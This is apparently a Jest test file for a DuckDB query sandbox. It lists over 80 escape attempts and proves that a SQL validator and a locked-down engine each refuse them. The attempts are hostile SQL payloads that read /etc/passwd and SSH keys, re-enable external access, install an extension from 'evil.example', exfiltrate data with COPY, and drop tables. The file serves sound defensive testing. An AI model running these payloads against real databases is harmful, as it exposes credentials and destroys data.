/**
 * The escape corpus. Every attempt is refused, and each layer is proved on its
 * own: `validator` attempts are refused by `validateSql` alone, `sandbox` attempts are refused by
 * the locked DuckDB alone, with the validator bypassed. Most attempts are stopped by both.
 */
import { afterAll, beforeAll, describe, it, expect } from '@jest/globals';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DuckDBConnection, DuckDBInstance } from '@duckdb/node-api';
import { allowedFunctionNames, allowedTableFunctionNames, createSqlParser, validateSql } from '@uda/shared/sql';
import type { SqlParser } from '@uda/shared/sql';
import { buildFixtureDb, writeParquet } from '@uda/test-support/runner-fixtures';
import { openSandbox, openSheetSandbox } from './sandbox.ts';

type Layer = 'validator' | 'sandbox';
const both: Layer[] = ['validator', 'sandbox'];
const V: Layer[] = ['validator'];
const S: Layer[] = ['sandbox'];

const CORPUS: [string, Layer[]][] = [
  // Replacement scans
  ["SELECT * FROM 'data.csv'", S],
  ["FROM '/etc/passwd'", S],
  ["SELECT * FROM '/etc/passwd'", S],
  ['SELECT * FROM "/etc/hosts"', S],
  ["FROM 'https://example.com/x.parquet'", S],
  ["FROM 's3://bucket/x.parquet'", S],
  ["FROM '~/.ssh/id_rsa'", S],
  ["SELECT * FROM '/proc/self/environ'", S],
  // File, SQL-text and metadata functions
  ["SELECT * FROM read_text('/etc/passwd')", both],
  ["SELECT * FROM read_blob('/etc/passwd')", both],
  ["SELECT * FROM glob('/*')", both],
  ["SELECT * FROM sniff_csv('/etc/passwd')", both],
  ["SELECT * FROM read_csv('/etc/passwd')", both],
  ["SELECT * FROM read_csv_auto('/etc/passwd')", both],
  ["SELECT * FROM read_parquet('/tmp/x.parquet')", both],
  ["SELECT * FROM read_json_auto('/etc/x.json')", both],
  ["SELECT * FROM read_ndjson_objects('/etc/x')", both],
  ["SELECT * FROM parquet_metadata('/tmp/x.parquet')", both],
  ["SELECT * FROM parquet_schema('/tmp/x.parquet')", both],
  ["SELECT content FROM read_text('.data/objects/exports/manifest.json')", both],
  ["SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')", both],
  ["SELECT * FROM query_table('/etc/passwd')", both],
  ["SELECT * FROM query_table('gutenberg')", V],
  ["SELECT * FROM query('SELECT 1')", V],
  ["SELECT * FROM iceberg_scan('s3://bucket/table')", both],
  ["SELECT * FROM delta_scan('/tmp/delta')", both],
  ["SELECT * FROM postgres_scan('host=localhost', 'public', 't')", both],
  ["SELECT * FROM sqlite_scan('/tmp/x.sqlite', 't')", both],
  // Statements that change settings, files, extensions or data
  ['SET enable_external_access = true', both],
  ['SET lock_configuration = false', both],
  ['RESET enable_external_access', both],
  ['SET GLOBAL threads = 64', both],
  ["SET temp_directory = '/tmp/elsewhere'", both],
  ['PRAGMA threads = 64', both],
  ['PRAGMA enable_profiling', V],
  ["ATTACH '/tmp/evil.db' AS evil", both],
  ["ATTACH 'md:' AS motherduck", both],
  ['DETACH service', both],
  ["COPY gutenberg TO '/tmp/out.csv'", both],
  ["COPY (SELECT 1) TO '/tmp/out.parquet' (FORMAT parquet)", both],
  ["COPY gutenberg FROM '/etc/passwd'", both],
  ["EXPORT DATABASE '/tmp/dump'", both],
  ["EXPORT\n\tDATABASE '/tmp/dump'", both],
  ["IMPORT DATABASE '/tmp/dump'", both],
  ['INSTALL httpfs', both],
  ['LOAD httpfs', both],
  ["FORCE INSTALL httpfs FROM 'http://evil.example'", both],
  ["LOAD '/tmp/evil.duckdb_extension'", both],
  ['CREATE TABLE x AS SELECT 1', both],
  ['INSERT INTO gutenberg (text_id) VALUES (1)', both],
  ["UPDATE gutenberg SET title = 'x'", both],
  ['DELETE FROM gutenberg', both],
  ['DROP TABLE gutenberg', both],
  ['ALTER TABLE gutenberg ADD COLUMN x INT', both],
  ['TRUNCATE gutenberg', both],
  ['CHECKPOINT', V], // a no-op on a read-only database, so only the validator has something to refuse
  ['CALL duckdb_settings()', V],
  ['EXPLAIN ANALYZE SELECT 1', V],
  // Comments, case, quoting and multiple statements
  ["SeLeCt * FrOm ReAd_TeXt('/etc/passwd')", both],
  ["SELECT * FROM/**/read_text('/etc/passwd')", both],
  ["SELECT * FROM \"read_text\"('/etc/passwd')", both],
  ['SELECT 1; DROP TABLE gutenberg', both],
  ["SELECT 1; ATTACH '/tmp/x.db'", both],
  ["SELECT 1 -- harmless\n; COPY gutenberg TO '/tmp/x'", both],
  ["/* harmless */ COPY gutenberg TO '/tmp/x.csv'", both],
  ["SELECT 1; SET enable_external_access = true; SELECT * FROM read_text('/etc/passwd')", both],
  // Unicode look-alikes: NFKC folds full-width letters; other scripts are not keywords to DuckDB
  ["ＣＯＰＹ gutenberg TO '/tmp/x'", both],
  ["ＳＥＴ threads = 64", both],
  ["SELECT * FROM reаd_text('/etc/passwd')", S],
  // Leaks of paths and settings
  ['SELECT * FROM duckdb_settings()', V],
  ["SELECT current_setting('temp_directory')", V],
  ['SELECT * FROM duckdb_databases()', V],
  ['SELECT * FROM duckdb_extensions()', V],
  ['SELECT * FROM pragma_database_list()', V],
  ["SELECT getenv('HOME')", both],
  // Engine state, settings and versions through a free SELECT
  ['SELECT * FROM enable_peg_parser()', V],
  ['SELECT * FROM disable_peg_parser()', V],
  ['SELECT * FROM pg_settings', V],
  ["SELECT value FROM pg_catalog.pg_settings WHERE name = 'temp_directory'", V],
  ['SELECT * FROM pragma_database_list', V],
  ['SELECT version()', V],
  ['SELECT * FROM duckdb_temporary_files()', V],
  ['SELECT * FROM duckdb_memory()', V],
  ['SELECT * FROM checkpoint()', V],
  ['SELECT * FROM enable_logging()', V],
  ["SELECT write_log('x')", V],
  ['SUMMARIZE pg_settings', V],
  ['SELECT * FROM information_schema.views', V],
  // A comment trick that relied on the validator and the runner parsing differently
  ['SELECT 1 /* */ FROM duckdb_settings()', V],
];

const corpusDir = await mkdtemp(join(tmpdir(), 'uda-escape-'));
let parser: SqlParser;
let instance: DuckDBInstance;
let connection: DuckDBConnection;
let sheetSandbox: { instance: DuckDBInstance; connection: DuckDBConnection };
const limits = { memoryLimit: '256MB', threads: 1, maxTempSize: '64MB', tempDirectory: join(corpusDir, 'tmp') };

beforeAll(async () => {
  parser = await createSqlParser();
  const dbPath = await buildFixtureDb(join(corpusDir, 'service.db'), { books: 100 });
  instance = await openSandbox(dbPath, limits);
  connection = await instance.connect();
  const sheet = await writeParquet(join(corpusDir, 'sheet.parquet'), "SELECT 1 AS a, 'x' AS b");
  sheetSandbox = await openSheetSandbox(dbPath, limits, [{ name: 'my_sheet', path: sheet }]);
});

afterAll(async () => {
  connection.closeSync();
  instance.closeSync();
  sheetSandbox.connection.closeSync();
  sheetSandbox.instance.closeSync();
  parser.close();
  await rm(corpusDir, { recursive: true, force: true });
});

const refusedBy = async (c: DuckDBConnection, sql: string) => c.run(sql).then(() => false, () => true);

describe('escape corpus', () => {
  it('holds at least 60 attempts, each assigned to at least one layer', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(60);
    expect(CORPUS.every(([, layers]) => layers.length > 0)).toBe(true);
  });

  it.each(CORPUS.filter(([, l]) => l.includes('validator')).map(([sql]) => [sql]))('the validator alone refuses %j', async (sql) => {
    expect((await validateSql(sql, parser)).ok).toBe(false);
  });

  it.each(CORPUS.filter(([, l]) => l.includes('sandbox')).map(([sql]) => [sql]))('the sandbox alone refuses %j', async (sql) => {
    expect(await refusedBy(connection, sql)).toBe(true);
  });

  it.each(CORPUS.filter(([, l]) => l.includes('sandbox')).map(([sql]) => [sql]))(
    'the sandbox with a connected sheet alone refuses %j',
    async (sql) => {
      expect(await refusedBy(sheetSandbox.connection, sql)).toBe(true);
    },
  );
});

/** Every function the engine knows, by kind, from the sandbox itself. */
async function engineFunctions(kinds: string[]): Promise<string[]> {
  const reader = await connection.runAndReadAll(
    `SELECT DISTINCT function_name FROM duckdb_functions() WHERE function_type IN (${kinds.map((k) => `'${k}'`).join(', ')}) ORDER BY 1`,
  );
  return reader.getRows().map((row) => String(row[0]));
}

/** One harmless call of each allowed table function, run in the sandbox to prove it reads nothing. */
const HARMLESS_TABLE_CALLS: Record<string, string> = {
  range: 'SELECT count(*)::INT FROM range(3)',
  generate_series: 'SELECT count(*)::INT FROM generate_series(1, 3)',
  unnest: 'SELECT count(*)::INT FROM unnest([1, 2, 3])',
  json_each: "SELECT count(*)::INT FROM json_each('[1, 2, 3]')",
  json_tree: "SELECT count(*)::INT FROM json_tree('[1, 2]')",
};

describe('the allow-list against every function the engine has', () => {
  it('refuses every table function, table macro and pragma that is not allowed, naming it', async () => {
    const names = await engineFunctions(['table', 'table_macro', 'pragma']);
    expect(names.length).toBeGreaterThan(80);
    const allowed = new Set(allowedTableFunctionNames());
    for (const name of names.filter((n) => !allowed.has(n))) {
      const quoted = `"${name}"`;
      const result = await validateSql(`SELECT * FROM ${quoted}()`, parser);
      // A name the spec's textual rules catch first (read_csv, glob) is refused all the same.
      expect(result.ok).toBe(false);
      if (result.ok === false && result.reason !== 'text') expect(result.message).toBe(`Function not allowed: ${name}`);
    }
  });

  it('proves each allowed table function harmless: it only generates rows from its arguments', async () => {
    expect(Object.keys(HARMLESS_TABLE_CALLS).sort()).toEqual(allowedTableFunctionNames().sort());
    for (const sql of Object.values(HARMLESS_TABLE_CALLS)) {
      expect(await validateSql(sql, parser)).toMatchObject({ ok: true });
      expect((await connection.runAndReadAll(sql)).getRowsJson()).toEqual([[3]]);
    }
  });

  it('refuses every scalar, aggregate and macro not on the allow-list, and knows every one it allows', async () => {
    const names = await engineFunctions(['scalar', 'aggregate', 'macro']);
    const allowed = new Set(allowedFunctionNames());
    const refused = names.filter((n) => !allowed.has(n));
    expect(refused).toEqual(expect.arrayContaining(['current_setting', 'version', 'getvariable', 'nextval', 'write_log', 'pg_sleep']));
    for (const name of refused) {
      const result = await validateSql(`SELECT "${name}"(1)`, parser);
      expect(result.ok).toBe(false);
      if (result.ok === false && result.reason !== 'text') expect(result.message).toBe(`Function not allowed: ${name}`);
    }
    // A name on the list that the engine does not know would be a typo hiding a gap.
    const parsedOnly = new Set(['unnest', 'grouping', 'grouping_id']);
    expect([...allowed].filter((n) => !names.includes(n) && !parsedOnly.has(n))).toEqual([]);
  });

  it('the allowed functions that name settings, files or the catalog show nothing of the server', async () => {
    const reader = await connection.runAndReadAll(
      "SELECT current_database(), current_schema(), current_schemas(true)::VARCHAR, parse_path('/a/b'), parse_filename('/a/b.csv')",
    );
    const row = reader.getRowsJson()[0] ?? [];
    expect(row.slice(0, 3).join(' ')).not.toMatch(/[\\/]/);
    expect(row.slice(3)).toEqual([['/', 'a', 'b'], 'b.csv']);
  });
});

describe('sandbox settings', () => {
  it('is locked with external access off and the database read-only', async () => {
    const reader = await connection.runAndReadAll(
      "SELECT current_setting('enable_external_access'), current_setting('lock_configuration'), current_setting('autoload_known_extensions'), current_setting('autoinstall_known_extensions')",
    );
    expect(reader.getRowsJson()).toEqual([[false, true, false, false]]);
  });

  it('still answers ordinary queries, and the connected sheet is a table after the lock-down', async () => {
    expect((await connection.runAndReadAll('SELECT count(*)::INT FROM gutenberg')).getRowsJson()).toEqual([[100]]);
    const joined = await sheetSandbox.connection.runAndReadAll('SELECT a, b, (SELECT count(*)::INT FROM gutenberg) FROM my_sheet');
    expect(joined.getRowsJson()).toEqual([[1, 'x', 100]]);
  });
});
